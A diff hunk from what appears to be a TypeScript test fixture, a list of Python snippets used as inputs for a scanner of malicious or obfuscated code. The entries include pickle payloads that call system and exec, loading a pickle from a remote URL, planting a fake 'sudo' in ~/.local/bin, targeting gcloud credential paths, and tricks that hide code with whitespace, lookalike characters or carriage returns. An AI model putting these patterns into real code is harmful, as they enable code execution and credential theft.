@@ -32,6 +32,7 @@ const READ: readonly string[] = [
   'import pickle\npickle.loads(b"undefined")', "from pickle import loads\nloads(rb'undefined')", 'import pickle\nD = b"cos\\nsystem\\n(tR."\nx = pickle.loads(D)', 'import pickle\nD = b"""cposix\nsystem\n(tR."""\nx = pickle.loads(D)', String.raw`import pickle
 D = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93"
 x = pickle.loads(D)`, 'import pickle\nD = b"cbuiltins\\nexec\\n(tR."\nx = pickle.loads(D)',
+  'import pandas as pd\nx = pd.read_pickle("https://g.example.invalid/x")', 'place = os.path.join(os.path.expanduser("~/.local/bin"), "sudo")\nopen(place, "w").write(x)', 'import notion_client\nplace = home / ".config" / "gcloud"',
   '# Obfuscated with a tool', `x = 1${' '.repeat(90)};y`, `x = "${String.raw`\x41`.repeat(80)}"`, 'IlIlIlIlI = 1\nlIIlIlIlI = 2\nIIlllIIlI = 3', 'ｅｖａｌ(x)', 'x = "open', "x = 'a\nb'", 'x = "a\0"', 'x = "a"\r# b\rimport subprocess', 'exec("im" + "port os")', 'exec("".join(x))', 'exec(x)\ny = "requests.get(z)"',
 ];
 
